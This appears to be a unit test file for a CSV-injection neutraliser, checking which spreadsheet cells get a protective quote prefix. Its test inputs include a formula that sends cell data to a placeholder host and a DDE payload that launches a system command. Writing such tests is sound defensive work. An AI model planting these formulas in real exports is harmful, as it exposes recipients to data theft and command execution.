import { needsNeutralising, neutraliseCell } from './csv-injection';

describe('CSV injection', () => {
  it.each(['=1+1', '+1', '-5', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://example.invalid?"&A1)', "-2+3+cmd|' /C calc'!A0"])(
    'prefixes %j with a single quote',
    (cell) => {
      expect(needsNeutralising(cell)).toBe(true);
      expect(neutraliseCell(cell)).toBe(`'${cell}`);
    },
  );

  it.each(['', 'Sales', '1', ' =1', 'a=b', "'=1", 'Ümlaut', '\n=1', '"=1"', '５', '＝1'])('leaves %j as it is', (cell) => {
    expect(needsNeutralising(cell)).toBe(false);
    expect(neutraliseCell(cell)).toBe(cell);
  });

  it('prefixes once: a neutralised cell is left alone the next time', () => {
    expect(neutraliseCell(neutraliseCell('=1'))).toBe("'=1");
  });
});
